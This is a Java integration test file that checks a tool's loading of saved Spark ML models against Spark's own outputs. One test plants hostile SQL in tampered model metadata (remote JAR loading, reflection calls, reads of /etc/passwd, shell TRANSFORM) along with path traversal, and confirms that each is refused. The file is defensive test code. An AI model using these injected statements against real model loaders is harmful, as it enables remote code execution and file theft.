package io.retort.teacher;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.retort.LocalSpark;
import io.retort.job.InputSettings;
import io.retort.job.OutputSettings;
import io.retort.job.TeacherSettings;
import io.retort.job.UserError;
import io.retort.loss.Softmax;
import io.retort.network.Classifier;
import java.io.File;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.function.Function;
import java.util.function.UnaryOperator;
import java.util.stream.Stream;
import org.apache.commons.io.FileUtils;
import org.apache.spark.ml.Pipeline;
import org.apache.spark.ml.PipelineStage;
import org.apache.spark.ml.Transformer;
import org.apache.spark.ml.classification.DecisionTreeClassifier;
import org.apache.spark.ml.classification.FMClassifier;
import org.apache.spark.ml.classification.GBTClassifier;
import org.apache.spark.ml.classification.LinearSVC;
import org.apache.spark.ml.classification.LogisticRegression;
import org.apache.spark.ml.classification.MultilayerPerceptronClassifier;
import org.apache.spark.ml.classification.NaiveBayes;
import org.apache.spark.ml.classification.OneVsRest;
import org.apache.spark.ml.classification.RandomForestClassifier;
import org.apache.spark.ml.evaluation.MulticlassClassificationEvaluator;
import org.apache.spark.ml.feature.IndexToString;
import org.apache.spark.ml.feature.PCA;
import org.apache.spark.ml.feature.SQLTransformer;
import org.apache.spark.ml.feature.StandardScaler;
import org.apache.spark.ml.feature.StringIndexer;
import org.apache.spark.ml.feature.VectorAssembler;
import org.apache.spark.ml.feature.VectorIndexer;
import org.apache.spark.ml.linalg.SQLDataTypes;
import org.apache.spark.ml.linalg.Vector;
import org.apache.spark.ml.linalg.Vectors;
import org.apache.spark.ml.param.ParamMap;
import org.apache.spark.ml.tuning.CrossValidator;
import org.apache.spark.ml.util.MLWritable;
import org.apache.spark.sql.Dataset;
import org.apache.spark.sql.Row;
import org.apache.spark.sql.RowFactory;
import org.apache.spark.sql.SparkSession;
import org.apache.spark.sql.types.DataTypes;
import org.apache.spark.sql.types.StructType;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * Models of Spark ML: what Retort makes of a row is what Spark makes of the same row in a table.
 */
class SparkMlIT {
  private static final int FEATURES = 4;
  private static final int ROWS = 240;
  private static final List<String> COLUMNS = List.of("a", "b", "c", "d");

  private final SparkSession spark = LocalSpark.session();
  @TempDir private Path folder;

  private static Map<String, Function<Dataset<Row>, Transformer>> kinds() {
    Map<String, Function<Dataset<Row>, Transformer>> kinds = new TreeMap<>();
    kinds.put("random forest", new RandomForestClassifier().setNumTrees(7).setSeed(1)::fit);
    kinds.put("decision tree", new DecisionTreeClassifier()::fit);
    kinds.put("logistic regression", new LogisticRegression().setMaxIter(5)::fit);
    kinds.put("naive Bayes", new NaiveBayes()::fit);
    kinds.put(
        "perceptron",
        new MultilayerPerceptronClassifier()
                .setLayers(new int[] {FEATURES, 5, 3})
                .setMaxIter(5)
                .setSeed(1)
            ::fit);
    kinds.put(
        "scaled, rotated, indexed",
        new Pipeline()
                .setStages(
                    new PipelineStage[] {
                      new VectorIndexer().setInputCol("features").setOutputCol("indexed"),
                      new StandardScaler().setInputCol("indexed").setOutputCol("scaled"),
                      new PCA().setInputCol("scaled").setOutputCol("rotated").setK(3),
                      new LogisticRegression().setFeaturesCol("rotated").setMaxIter(5)
                    })
            ::fit);
    kinds.put(
        "with names for labels",
        new Pipeline()
                .setStages(
                    new PipelineStage[] {
                      new StringIndexer().setInputCol("name").setOutputCol("index"),
                      new RandomForestClassifier().setLabelCol("index").setNumTrees(3).setSeed(1),
                      new IndexToString()
                          .setInputCol("prediction")
                          .setOutputCol("answer")
                          .setLabels(new String[] {"x", "y", "z"})
                    })
            ::fit);
    kinds.put(
        "cross-validated",
        new CrossValidator()
                .setEstimator(new LogisticRegression().setMaxIter(3))
                .setEvaluator(new MulticlassClassificationEvaluator())
                .setEstimatorParamMaps(new ParamMap[] {new ParamMap()})
                .setNumFolds(2)
                .setSeed(1)
            ::fit);
    kinds.put("boosted trees", binary(new GBTClassifier().setMaxIter(3).setSeed(1)::fit));
    kinds.put("factorization machine", binary(new FMClassifier().setMaxIter(3).setSeed(1)::fit));
    return kinds;
  }

  private static Function<Dataset<Row>, Transformer> binary(
      Function<Dataset<Row>, Transformer> fit) {
    return table -> fit.apply(table.withColumn("label", table.col("label").gt(0).cast("double")));
  }

  private static List<String> names() {
    return List.copyOf(kinds().keySet());
  }

  @ParameterizedTest
  @org.junit.jupiter.params.provider.MethodSource("names")
  void probabilitiesAreSparksOwn(String kind) throws IOException {
    Dataset<Row> table = table();
    Transformer model = kinds().get(kind).apply(table);

    assertAlike(open(model, settings("probability")), model, table, "probability");
  }

  @Test
  void aModelMayStartFromColumns() throws IOException {
    Dataset<Row> table = table();
    Transformer model =
        new Pipeline()
            .setStages(
                new PipelineStage[] {
                  new SQLTransformer().setStatement("SELECT *, a * b AS ab FROM __THIS__"),
                  new VectorAssembler()
                      .setInputCols(new String[] {"d", "ab", "b", "c"})
                      .setOutputCol("assembled"),
                  new RandomForestClassifier().setFeaturesCol("assembled").setNumTrees(3).setSeed(1)
                })
            .fit(table);
    TeacherSettings.SparkMl settings =
        new TeacherSettings.SparkMl(
            save(model),
            List.of(),
            COLUMNS,
            input("features"),
            new OutputSettings("probability", OutputSettings.Kind.PROBABILITIES));

    assertAlike(open(settings), model, table, "probability");
  }

  @ParameterizedTest
  @ValueSource(booleans = {true, false})
  void rawPredictionsAreLogitsAlready(boolean several) throws IOException {
    Dataset<Row> table = table();
    LinearSVC two = new LinearSVC().setMaxIter(3);
    Transformer model =
        several ? new OneVsRest().setClassifier(two).fit(table) : binary(two::fit).apply(table);

    assertAlike(open(model, settings("rawPrediction")), model, table, "rawPrediction");
  }

  @Test
  void aProbabilityOfNoneIsAFiniteLogit() throws IOException {
    Classifier tree = open(new DecisionTreeClassifier().fit(table()), settings("probability"));
    float[] logits = new float[3];
    tree.logits(new float[] {0, 9, 9, 9}, 1, logits);

    assertThat(logits).contains(Softmax.logit(0)).doesNotContain(Float.NEGATIVE_INFINITY);
  }

  @Test
  void theInputRecipeIsApplied() throws IOException {
    Dataset<Row> table = table();
    Transformer model = new LogisticRegression().setMaxIter(5).fit(table);
    InputSettings input = new InputSettings("features", null, 4, List.of(2.0), List.of(8.0));
    OutputSettings output = new OutputSettings("probability", OutputSettings.Kind.PROBABILITIES);
    String saved = save(model);
    float[] plain = {1, 2, 3, 4};
    float[] recipe = {2.5f, 4.5f, 6.5f, 8.5f}; // (x * 4 - 2) / 8 gives 1, 2, 3, 4.

    assertThat(
            logits(
                open(new TeacherSettings.SparkMl(saved, List.of(), List.of(), input, output)),
                recipe))
        .containsExactly(logits(open(settings(saved, "probability")), plain));
  }

  @Test
  void parametersAreCounted() throws IOException {
    assertThat(open(new LogisticRegression().fit(table()), settings("probability")).parameters())
        .isEqualTo(3 * FEATURES + 3);
    assertThat(open(kinds().get("perceptron").apply(table()), settings("probability")).parameters())
        .isEqualTo((FEATURES + 1) * 5 + (5 + 1) * 3);
    var forest = new RandomForestClassifier().setNumTrees(4).setSeed(1).fit(table());
    assertThat(open(forest, settings("probability")).parameters())
        .isEqualTo(Arrays.stream(forest.trees()).mapToInt(tree -> tree.numNodes()).sum());
  }

  @Test
  void stagesThatDoNotWorkRowByRowAreRefused() throws IOException {
    refused("a AS x FROM __THIS__ WHERE a > 0", "must work row by row", "Filter");
    refused("row_number() OVER (ORDER BY a) AS x FROM __THIS__", "row by row", "Window");
    refused("rand() AS x FROM __THIS__", "gives other answers each time");
  }

  /** A model's files say what is to be made, read and run. */
  @Test
  void modelsThatWereMadeToDoHarmAreRefused() throws IOException {
    String forest = "org.apache.spark.ml.classification.RandomForestClassificationModel";
    harmless("nothing changed", text -> text);
    harmful(
        "names the class io.retort.teacher.Evil",
        text -> text.replace(forest, "io.retort.teacher.Evil"));
    harmful(
        "names the class org.apache.spark.mllib.Evil",
        text -> text.replace(forest, "org.apache.spark.mllib.Evil"));
    harmful(
        "stage ../../elsewhere leads out of its folder",
        text ->
            text.replaceFirst("\"stageUids\":\\[\"[^\"]*\"", "\"stageUids\":[\"../../elsewhere\""));
    for (String sql :
        List.of(
            "DROP TABLE a",
            "ADD JAR 'http://host/evil.jar'",
            "SELECT *, reflect('java.lang.System', 'setProperty', 'ran', 'ran') AS x FROM __THIS__",
            "SELECT *, (SELECT max(value) FROM text.`/etc/passwd`) AS x FROM __THIS__",
            "SELECT TRANSFORM(a) USING 'sh' AS x FROM __THIS__",
            "SELECT * FROM __THIS__ JOIN text.`/etc/passwd`")) {
      harmful(
          "its SQLTransformer is " + sql,
          text -> text.replace("SELECT *, a AS x FROM __THIS__", sql));
    }
    assertThat(System.getProperty("ran")).isNull();
  }

  private void harmless(String what, UnaryOperator<String> change) throws IOException {
    assertThat(open(crafted(change))).as(what).isNotNull();
  }

  private void harmful(String said, UnaryOperator<String> change) throws IOException {
    TeacherSettings.SparkMl model = crafted(change);
    assertThatThrownBy(() -> open(model))
        .isInstanceOf(UserError.class)
        .hasMessageContaining("not a saved Spark ML model (")
        .hasMessageContaining(said);
  }

  /** A pipeline all of whose metadata is changed. */
  private TeacherSettings.SparkMl crafted(UnaryOperator<String> change) throws IOException {
    PipelineStage[] stages = {
      new SQLTransformer().setStatement("SELECT *, a AS x FROM __THIS__"),
      new VectorAssembler().setInputCols(new String[] {"x", "b"}).setOutputCol("assembled"),
      new RandomForestClassifier().setFeaturesCol("assembled").setNumTrees(2).setSeed(1)
    };
    String model = save(new Pipeline().setStages(stages).fit(table()));
    List<Path> files;
    try (Stream<Path> all = Files.walk(Path.of(model))) {
      files = all.filter(file -> file.getParent().endsWith("metadata")).toList();
    }
    for (Path file : files) {
      if (file.getFileName().toString().startsWith("part-")) {
        Files.writeString(file, change.apply(Files.readString(file)));
      } else if (file.toString().endsWith(".crc")) {
        Files.delete(file);
      }
    }
    return new TeacherSettings.SparkMl(
        model,
        List.of(),
        COLUMNS,
        input("features"),
        new OutputSettings("probability", OutputSettings.Kind.PROBABILITIES));
  }

  private void refused(String selected, String... said) throws IOException {
    Dataset<Row> table = table();
    List<PipelineStage> stages =
        List.of(
            new SQLTransformer().setStatement("SELECT *, " + selected),
            new VectorAssembler().setInputCols(new String[] {"x", "b"}).setOutputCol("assembled"),
            new LogisticRegression().setFeaturesCol("assembled").setMaxIter(1));
    String model = save(new Pipeline().setStages(stages.toArray(PipelineStage[]::new)).fit(table));
    TeacherSettings.SparkMl settings =
        new TeacherSettings.SparkMl(
            model,
            List.of(),
            COLUMNS,
            input("features"),
            new OutputSettings("probability", OutputSettings.Kind.PROBABILITIES));

    assertThatThrownBy(() -> open(settings))
        .isInstanceOf(UserError.class)
        .hasMessageStartingWith("teacher.model = ")
        .message()
        .contains(said)
        .doesNotContain("\n");
  }

  @Test
  void whatDoesNotFitIsToldInOneLine() throws IOException {
    Dataset<Row> table = table();
    String forest = save(new RandomForestClassifier().setNumTrees(2).fit(table));
    String estimator = folder.resolve("estimator").toString();
    new LogisticRegression().save(estimator);
    OutputSettings output = new OutputSettings("probability", OutputSettings.Kind.PROBABILITIES);

    assertRefused(settings(forest, "probabilities"), "output.name = probabilities, must be ");
    assertRefused(settings(forest, "prediction"), "must be rawPrediction | probability");
    assertRefused(
        new TeacherSettings.SparkMl(forest, List.of(), List.of(), input("image"), output),
        "cannot be applied to image (",
        "features does not exist");
    assertRefused(
        new TeacherSettings.SparkMl(
            forest, List.of(), List.of("a", "b"), input("features"), output),
        "columns names 2, but an example has 4 features");
    assertRefused(settings(estimator, "probability"), "is a LogisticRegression, must be a fitted");
    assertRefused(settings(folder.toString(), "probability"), "not a saved Spark ML model");
  }

  private void assertRefused(TeacherSettings.SparkMl settings, String... said) {
    assertThatThrownBy(() -> open(settings))
        .isInstanceOf(UserError.class)
        .hasMessageStartingWith("teacher.model = " + settings.model())
        .message()
        .contains(said)
        .doesNotContain("\n");
  }

  @Test
  void aFoldersHashIsOfItsFilesAndTheirNames() throws IOException {
    String first = save(new LogisticRegression().setMaxIter(1).fit(table()));
    String moved = folder.resolve("moved").toString();
    FileUtils.copyDirectory(new File(first), new File(moved));
    assertThat(sha256(moved)).isEqualTo(sha256(first)).hasSize(64);

    Path metadata;
    try (var files = Files.list(Path.of(moved, "metadata"))) {
      metadata =
          files.filter(f -> f.getFileName().toString().startsWith("part-")).findFirst().get();
    }
    Files.deleteIfExists(metadata.resolveSibling("." + metadata.getFileName() + ".crc"));
    assertThat(sha256(moved)).isEqualTo(sha256(first));
    Files.writeString(
        metadata, Files.readString(metadata).replace("\"maxIter\":1", "\"maxIter\":2"));
    assertThat(sha256(moved)).isNotEqualTo(sha256(first));
  }

  private String sha256(String model) throws IOException {
    org.apache.hadoop.fs.Path path = new org.apache.hadoop.fs.Path(model);
    return new ModelFolder(GivenModel.files(spark, path), path).sha256();
  }

  /** In batches, on this thread; every value is to the bit what Spark's own table holds. */
  private static void assertAlike(
      Classifier teacher, Transformer model, Dataset<Row> table, String column) {
    List<Row> rows = model.transform(table).select("features", column).collectAsList();
    float[] features = new float[rows.size() * FEATURES];
    for (int row = 0; row < rows.size(); row++) {
      for (int f = 0; f < FEATURES; f++) {
        features[row * FEATURES + f] = (float) ((Vector) rows.get(row).get(0)).apply(f);
      }
    }
    int classes = ((Vector) rows.get(0).get(1)).size();
    assertThat(teacher.classes()).isEqualTo(classes);
    float[] logits = new float[rows.size() * classes];
    teacher.logits(features, rows.size(), logits);
    for (int row = 0; row < rows.size(); row++) {
      for (int c = 0; c < classes; c++) {
        double value = ((Vector) rows.get(row).get(1)).apply(c);
        assertThat(logits[row * classes + c])
            .isEqualTo(column.equals("probability") ? Softmax.logit(value) : (float) value);
      }
    }
  }

  private static float[] logits(Classifier teacher, float[] example) {
    float[] logits = new float[teacher.classes()];
    teacher.logits(example, 1, logits);
    return logits;
  }

  private Classifier open(Transformer model, TeacherSettings.SparkMl settings) throws IOException {
    return open(settings(save(model), settings.output().name()));
  }

  private Classifier open(TeacherSettings.SparkMl settings) throws IOException {
    return GivenModel.open(
            spark, "teacher", settings, null, SomeExamples.ofShape(List.of(FEATURES)))
        .source()
        .onThisThread();
  }

  private String save(Transformer model) throws IOException {
    String path = folder.resolve(model.uid()).toString();
    ((MLWritable) model).save(path);
    return path;
  }

  private static TeacherSettings.SparkMl settings(String column) {
    return settings("unsaved", column);
  }

  private static TeacherSettings.SparkMl settings(String model, String column) {
    OutputSettings.Kind kind =
        column.equals("rawPrediction")
            ? OutputSettings.Kind.LOGITS
            : OutputSettings.Kind.PROBABILITIES;
    return new TeacherSettings.SparkMl(
        model, List.of(), List.of(), input("features"), new OutputSettings(column, kind));
  }

  private static InputSettings input(String name) {
    return new InputSettings(name, null, 1, List.of(0.0), List.of(1.0));
  }

  /** Three classes in numbers that a float holds, as columns and as a vector. */
  private Dataset<Row> table() {
    Random random = new Random(5);
    List<Row> rows = new ArrayList<>();
    for (int row = 0; row < ROWS; row++) {
      double[] x = new double[FEATURES];
      for (int f = 0; f < FEATURES; f++) {
        x[f] = random.nextInt(64) / 8.0;
      }
      double label = x[0] > 4 ? 2 : x[1] > x[2] ? 1 : 0;
      rows.add(
          RowFactory.create(
              x[0],
              x[1],
              x[2],
              x[3],
              Vectors.dense(x),
              label,
              "xyz".substring((int) label, (int) label + 1)));
    }
    Collections.shuffle(rows, random);
    StructType schema = new StructType();
    for (String column : COLUMNS) {
      schema = schema.add(column, DataTypes.DoubleType);
    }
    schema =
        schema
            .add("features", SQLDataTypes.VectorType())
            .add("label", DataTypes.DoubleType)
            .add("name", DataTypes.StringType);
    return spark.createDataFrame(rows, schema);
  }
}
